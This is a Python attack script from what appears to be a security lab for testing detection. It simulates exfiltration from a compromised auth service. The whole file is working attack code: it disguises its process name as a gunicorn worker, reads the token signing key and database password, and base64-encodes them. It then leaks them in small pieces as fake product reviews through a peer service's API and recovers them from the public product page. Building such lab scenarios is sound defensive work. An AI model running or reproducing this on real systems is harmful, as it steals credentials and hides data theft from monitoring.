#!/usr/bin/env python3
"""Attack 4 — exfiltration from a compromised service: run INSIDE auth's cgroup (scripts/lab exec auth …).

An attacker with code execution in auth (its process renamed to look like a gunicorn worker) reads auth's token
signing key (lab/run/secrets/auth-signing.key; auth itself reads it only when a worker starts) and the database
password, and smuggles them out through a peer auth never talks to: catalogue's review API, as a "review" on a
product page, in small pieces over a few seconds (one kept-alive connection; --one-shot: one per piece). The attacker then reads the dead drop back from the product's
public page. Succeeds when the key came back out of the public product page.

  scripts/lab exec auth lab/attacks/4-exfiltration.py [--product 397]
"""

import argparse
import base64
import ctypes
import http.client
import json
import time
import urllib.parse
import urllib.request

from _common import ENV, RUN, Attack, log


def masquerade(name=b"gunicorn"):
    """prctl(PR_SET_NAME): the thread name `ps` and the probe see."""
    ctypes.CDLL(None).prctl(15, ctypes.c_char_p(name), 0, 0, 0)


class Drop:
    """POSTs to catalogue's review API: over one kept-alive connection (as a service client would), or a new
    connection per piece (`one_shot`)."""

    def __init__(self, base, one_shot):
        u = urllib.parse.urlsplit(base)
        self.host, self.port, self.one_shot, self.conn = u.hostname, u.port, one_shot, None

    def post(self, path, body):
        if self.conn is None:
            self.conn = http.client.HTTPConnection(self.host, self.port, timeout=10)
        self.conn.request("POST", path, body=json.dumps(body), headers={"Content-Type": "application/json"})
        r = self.conn.getresponse()
        r.read()
        if self.one_shot:
            self.close()
        return r.status

    def close(self):
        if self.conn is not None:
            self.conn.close()
            self.conn = None


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--product", type=int, default=397)
    ap.add_argument("--chunk", type=int, default=32)
    ap.add_argument("--one-shot", action="store_true", help="a new connection per piece")
    a = ap.parse_args()
    masquerade()
    with Attack("exfiltration") as atk:
        loot = (RUN / "secrets" / "auth-signing.key").read_text().strip()
        loot += " " + (RUN / "secrets" / "db-password").read_text().strip()
        blob = base64.b64encode(loot.encode()).decode()
        pieces = [blob[i:i + a.chunk] for i in range(0, len(blob), a.chunk)]
        drop = Drop(ENV["LAB_CATALOGUE_URL"], a.one_shot)
        for i, p in enumerate(pieces):
            drop.post("/reviews", {"product_id": a.product, "user_id": 1 + i, "stars": 5,
                                   "body": f"Great value!! ref:{i}:{p}"})
            time.sleep(1.0)
        drop.close()
        log(f"sent {len(loot)} secret bytes in {len(pieces)} reviews to catalogue")
        # The dead drop is public: the product page shows the product's newest reviews (read here from catalogue's
        # API, which serves that page, so that the check adds no traffic of its own to the picture).
        with urllib.request.urlopen(f"{ENV['LAB_CATALOGUE_URL']}/products/{a.product}", timeout=10) as r:
            reviews = json.loads(r.read())["product"]["reviews"]
        got = {}  # newest first: the first piece seen for an index is this run's
        for x in reviews:
            if "ref:" in x["body"]:
                _, i, piece = x["body"].split(":", 2)
                got.setdefault(int(i), piece)
        back = base64.b64decode("".join(got[i] for i in sorted(got))).decode(errors="replace") if got else ""
        atk.detail = {"secret_bytes": len(loot), "pieces": len(pieces), "recovered": back.split(" ")[0] == loot.split(" ")[0]}
        atk.ok = back.split(" ")[0] == loot.split(" ")[0]
        log(f"read back from the product page of product {a.product}: key recovered = {atk.ok}")


if __name__ == "__main__":
    main()
